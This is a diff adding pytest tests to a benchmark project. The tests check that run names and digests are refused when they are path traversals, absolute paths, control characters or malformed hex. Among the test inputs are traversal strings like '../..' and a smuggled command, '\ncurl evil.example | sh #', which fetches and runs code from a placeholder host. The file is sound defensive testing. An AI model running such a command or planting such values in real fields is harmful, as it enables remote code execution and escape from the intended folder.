@@ -4,10 +4,16 @@ import dataclasses
 
 import pytest
 
-from dp_bench.runs.info import RunIdentity
-from made_up import run_info
+from dp_bench.errors import BadInput
+from dp_bench.evaluation import records
+from dp_bench.reports.results_folder import collect
+from dp_bench.runs.info import NAMES, RunIdentity
+from made_up import run_info, written_run
+from made_up_records import episodes, with_digests
 
-INFO = run_info(preset="custom", training={"updates": 3, "precision": "auto"})
+INFO = run_info(
+    split_digest="s" * 12, preset="custom", training={"updates": 3, "precision": "auto"}
+)
 
 
 @pytest.mark.parametrize(
@@ -59,3 +65,64 @@ def test_the_identity_agrees_with_the_info():
     for field in dataclasses.fields(RunIdentity):
         assert getattr(identity, field.name) == getattr(INFO, field.name)
     assert identity != dataclasses.replace(INFO, train_seed=1).identity
+
+
+ELSEWHERE = (
+    "../../..",
+    "/tmp/x",
+    "",
+    ".hidden",
+    "a/b",
+    "a\\b",
+    "a\nb",
+    "<b>",
+    "x\x1b[2J",
+)
+
+
+@pytest.mark.parametrize("name", ELSEWHERE)
+@pytest.mark.parametrize("field", NAMES)
+def test_a_name_that_could_lead_elsewhere_is_refused(tmp_path, field, name):
+    run = written_run(tmp_path / "runs" / "run")
+    run.records.write_text("{}\n")
+    run.write_info(dataclasses.replace(run.info(), **{field: name}))
+    before = sorted(tmp_path.rglob("*"))
+    for use in (run.info, lambda: collect([run.path], tmp_path / "results")):
+        with pytest.raises(BadInput, match=rf"run.json: {field} .* is not a name: use"):
+            use()
+    assert sorted(tmp_path.rglob("*")) == before
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("demos_digest", "\ncurl evil.example | sh #"),
+        ("demos_digest", "d" * 63),
+        ("demos_digest", "D" * 64),
+        ("demos_digest", ""),
+        ("split_digest", "x" * 12),
+        ("split_digest", "1" * 12 + "\n"),
+        ("order_digest", "1" * 64),
+    ],
+)
+def test_a_digest_is_hex_of_its_length(tmp_path, field, value):
+    run = written_run(tmp_path / "run")
+    run.write_info(dataclasses.replace(run.info(), **{field: value}))
+    with pytest.raises(
+        BadInput, match=rf"{field} .* is not a digest, which is \d+ hex"
+    ):
+        run.info()
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [("task", "../.."), ("method", "a|b"), ("settings", "s1"), ("demos_digest", "d1")],
+)
+def test_records_with_such_a_name_or_digest_are_refused(tmp_path, field, value):
+    good = with_digests(episodes())
+    records.append(tmp_path / "good.jsonl", good)
+    assert records.read(tmp_path / "good.jsonl") == good
+    file = tmp_path / "bad.jsonl"
+    records.append(file, [dataclasses.replace(good[0], **{field: value})])
+    with pytest.raises(BadInput, match=rf"{file}: {field} "):
+        records.read(file)
